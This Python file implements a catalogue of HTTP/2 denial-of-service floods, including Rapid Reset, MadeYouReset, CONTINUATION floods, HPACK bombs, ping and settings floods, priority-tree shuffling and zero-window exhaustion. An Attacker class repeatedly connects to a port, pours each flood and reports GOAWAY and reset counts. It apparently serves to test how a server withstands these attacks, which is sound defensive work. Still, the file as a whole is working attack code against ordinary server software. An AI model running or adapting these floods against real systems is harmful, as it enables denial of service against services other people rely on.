"""Attacks on a server by HTTP/2, each a small program: `attacking.py NAME PORT SECURED SECONDS REST`.

It says "ready", attacks for so long, where it is cut again after a rest, and prints what it saw as JSON: how often it
came, which codes of GOAWAY it got, how often it was cut, and how much it has sent.
"""

import json
import select
import socket
import ssl
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from itertools import chain, cycle, repeat

from frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    HUGE,
    INITIAL_WINDOW_SIZE,
    MAX_FRAME_SIZE,
    PADDED,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    Frames,
    connected,
    frame,
    headers,
    literal,
    priority,
    request,
    reset,
    settings,
    streams,
    window,
)

PORTION = 65_536
"""How much of a flood goes out in one write, and is read."""


@dataclass
class Seen:
    """What an attacker has seen. `refused` counts connections that could not be made."""

    came: int = 0
    cut: int = 0
    refused: int = 0
    sent: int = 0
    goaways: Counter[int] = field(default_factory=Counter)
    resets: Counter[int] = field(default_factory=Counter)
    answers: int = 0
    standing: bool = False


@dataclass(frozen=True)
class Flood:
    """`steps` are the bytes to send, without end or not; a deaf one reads nothing. `opening` is sent at first."""

    steps: Callable[[bytes], Iterator[bytes]]
    opening: bytes = settings()
    deaf: bool = False
    pause: float = 0.0


# Requests and how they are given up


def rapid_reset(get: bytes) -> Iterator[bytes]:
    """CVE-2023-44487: ask, and give it up at once."""
    for stream in streams():
        yield headers(stream, get) + reset(stream)


def made_you_reset(wrong: Callable[[int], bytes]) -> Callable[[bytes], Iterator[bytes]]:
    """CVE-2025-8671: ask, and make the server give it up."""

    def steps(get: bytes) -> Iterator[bytes]:
        for stream in streams():
            yield headers(stream, get) + wrong(stream)

    return steps


def malformed(get: bytes) -> Iterator[bytes]:
    """Requests that break a rule, each of which is answered or reset."""
    for stream in streams():
        yield headers(stream, get + literal(b"Upper", b"case"))


def empty_names(get: bytes) -> Iterator[bytes]:
    """CVE-2019-9516: fields without a name."""
    for stream in streams():
        yield headers(stream, get + literal(b"", b"") * 100)


# Blocks of fields without end, or that grow when they are read


def continuation(part: bytes) -> Callable[[bytes], Iterator[bytes]]:
    """CVE-2024-27316: a head that never ends."""
    return lambda get: chain([headers(1, get, END_STREAM)], repeat(frame(CONTINUATION, 0, 1, part)))


def empty_headers(get: bytes) -> Iterator[bytes]:
    """Heads without a field, in many parts."""
    for stream in streams():
        yield headers(stream, b"", END_STREAM) + frame(CONTINUATION, 0, stream) * 20
        yield frame(CONTINUATION, END_HEADERS, stream, get)


def hpack_bomb(get: bytes) -> Iterator[bytes]:
    """One large field in the dynamic table, which each byte stands for from then on."""
    yield headers(1, get + literal(b"x", b"y" * 4000, kept=True))
    for stream in range(3, 2**31, 2):
        yield headers(stream, get + b"\xbe" * 16_000)


def list_bomb(get: bytes) -> Iterator[bytes]:
    """Heads of many small fields."""
    for stream in streams():
        yield headers(stream, get + literal(b"a", b"") * 4000)


def crumbs(get: bytes) -> Iterator[bytes]:
    """Heads of many small cookies, which are to be joined."""
    for stream in streams():
        # Field 32 of the static table is the cookie.
        yield headers(stream, get + b"\x10\x00" + b"\x0f\x11\x01a" * 4000)


# Frames that cost the server more than the client


def again(what: bytes) -> Callable[[bytes], Iterator[bytes]]:
    """The same for ever."""
    return lambda get: repeat(what)


def on_a_stream(what: bytes) -> Callable[[bytes], Iterator[bytes]]:
    """A request whose body is this for ever."""
    return lambda get: chain([headers(1, post(get), END_HEADERS)], repeat(what))


def resource_loop(get: bytes) -> Iterator[bytes]:
    """CVE-2019-9513: shuffle the tree of priorities."""
    for stream in cycle(range(1, 2001, 2)):
        yield priority(stream, stream + 2) + priority(stream + 2, 0)


def priority_updates(get: bytes) -> Iterator[bytes]:
    """The same with the frames of RFC 9218."""
    for stream in cycle(range(1, 101, 2)):
        yield frame(0x10, 0, 0, stream.to_bytes(4) + b"u=1, i")


# Peers that want much and take little


def data_dribble(get: bytes) -> Iterator[bytes]:
    """CVE-2019-9511: a large answer, in windows of one byte."""
    yield b"".join(headers(stream, large(get)) for stream in range(1, 101, 2))
    for _ in repeat(None):
        yield b"".join(window(stream, 1) for stream in range(1, 101, 2))


def internal_buffering(get: bytes) -> Iterator[bytes]:
    """CVE-2019-9517: open all windows, ask for much, and read nothing of it."""
    yield window(0, HUGE - 65_535)
    yield b"".join(headers(stream, large(get)) for stream in range(1, 101, 2))


def zero_window(get: bytes) -> Iterator[bytes]:
    """Ask for much and leave all windows shut."""
    yield b"".join(headers(stream, large(get)) for stream in range(1, 101, 2))


def post(get: bytes) -> bytes:
    """The same request with another method."""
    return get.replace(b"\x03GET", b"\x04POST")


def large(get: bytes) -> bytes:
    """The same request for more."""
    return get.replace(b"\x01/", b"\x06/large")


SHUT = settings((INITIAL_WINDOW_SIZE, 0))

FLOODS: dict[str, Flood] = {
    "rapid reset": Flood(rapid_reset),
    "made you reset: no window": Flood(made_you_reset(lambda stream: window(stream, 0))),
    "made you reset: too much window": Flood(made_you_reset(lambda stream: window(stream, HUGE))),
    "made you reset: data behind the end": Flood(made_you_reset(lambda stream: frame(DATA, 0, stream, b"more"))),
    "made you reset: depends on itself": Flood(made_you_reset(lambda stream: priority(stream, stream))),
    "made you reset: two heads": Flood(made_you_reset(lambda stream: headers(stream, request()))),
    "made you reset: malformed": Flood(malformed),
    "fields without names": Flood(empty_names),
    "continuation": Flood(continuation(literal(b"a", b"b" * 100))),
    "empty continuation": Flood(continuation(b"")),
    "empty headers": Flood(empty_headers),
    "hpack bomb": Flood(hpack_bomb),
    "list bomb": Flood(list_bomb),
    "cookie crumbs": Flood(crumbs),
    "ping": Flood(again(frame(PING, payload=bytes(8)))),
    "ping, unread": Flood(again(frame(PING, payload=bytes(8))), deaf=True),
    "acknowledged pings": Flood(again(frame(PING, ACK, payload=bytes(8)))),
    "settings": Flood(again(settings())),
    "settings, unread": Flood(again(settings((MAX_FRAME_SIZE, 16_384))), deaf=True),
    "settings of many": Flood(again(settings(*[(INITIAL_WINDOW_SIZE, size) for size in range(2000)]))),
    "empty data": Flood(on_a_stream(frame(DATA, 0, 1))),
    "padding": Flood(on_a_stream(frame(DATA, PADDED, 1, b"\xff" + bytes(255)))),
    "data of one byte": Flood(on_a_stream(frame(DATA, 0, 1, b"a"))),
    "unknown frames": Flood(again(frame(0xFE, 0, 0, b"?"))),
    "window updates": Flood(again(window(0, 1))),
    "resource loop": Flood(resource_loop),
    "priority updates": Flood(priority_updates),
    "data dribble": Flood(data_dribble, opening=SHUT),
    "internal data buffering": Flood(internal_buffering, opening=settings((INITIAL_WINDOW_SIZE, HUGE)), deaf=True),
    "zero window": Flood(zero_window, opening=SHUT),
    "zero window, with pings": Flood(
        lambda get: chain(zero_window(get), repeat(frame(PING, payload=bytes(8)))), opening=SHUT, pause=0.2
    ),
}


class Attacker:
    """One that floods a port until a moment, and comes again, after a rest, each time that it is cut."""

    def __init__(self, flood: Flood, port: int, secured: bool, until: float, rest: float) -> None:
        self.seen = Seen()
        self._rest = rest
        self._waiting = b""
        self._flood = flood
        self._port = port
        self._secured = secured
        self._until = until

    def run(self) -> Seen:
        """All of it."""
        while (left := self._until - time.monotonic()) > 0:
            try:
                link = connected(self._port, self._secured, left)
            except (OSError, ssl.SSLError):
                self.seen.refused += 1
                time.sleep(0.05)
                continue
            self.seen.came += 1
            with link:
                link.setblocking(False)
                if self._pour(link):
                    self.seen.cut += 1
                    time.sleep(self._rest)
                else:
                    self.seen.standing = True
        return self.seen

    def _pour(self, link: socket.socket) -> bool:
        """Whether the server has made an end before the time was over."""
        flood, frames = self._flood, Frames()
        steps = flood.steps(request(scheme=b"https" if self._secured else b"http"))
        self._waiting = PREFACE + flood.opening
        while time.monotonic() < self._until:
            if not self._waiting:
                self._waiting = portion(steps, 1 if flood.pause else PORTION)
            try:
                sent = link.send(self._waiting[:PORTION]) if self._waiting else 0
                self.seen.sent += sent
                self._waiting = self._waiting[sent:]
                time.sleep(flood.pause or (0.001 if not self._waiting else 0))
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                time.sleep(0.001)
            except OSError:
                self._read(link, frames)
                return True
            if ended(link) if flood.deaf else self._read(link, frames):
                return True
        return False

    def _read(self, link: socket.socket, frames: Frames) -> bool:
        """Whether the server has made an end."""
        try:
            while data := link.recv(PORTION):
                for each in frames.take(data):
                    if each.kind == GOAWAY:
                        self.seen.goaways[each.code] += 1
                    elif each.kind == RST_STREAM:
                        self.seen.resets[each.code] += 1
                    elif each.kind == HEADERS:
                        self.seen.answers += 1
                    elif each.kind == SETTINGS and not each.flags & ACK:
                        self._waiting += frame(SETTINGS, ACK)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return False
        except OSError:
            pass
        return True


def ended(link: socket.socket) -> bool:
    """Whether the other end is gone, without reading anything."""
    poll = select.poll()
    poll.register(link, select.POLLRDHUP)
    return bool(poll.poll(0))


def portion(steps: Iterator[bytes], size: int) -> bytes:
    """The next steps, of so many bytes together or a little more."""
    words, count = [], 0
    for step in steps:
        words.append(step)
        count += len(step)
        if count >= size:
            break
    return b"".join(words)


def main() -> None:
    """Attack as the arguments say."""
    name, port, secured, seconds, rest = sys.argv[1:]
    print("ready", flush=True)
    until = time.monotonic() + float(seconds)
    attacker = Attacker(FLOODS[name], int(port), bool(int(secured)), until, float(rest))
    print(json.dumps(vars(attacker.run())), flush=True)


if __name__ == "__main__":
    main()
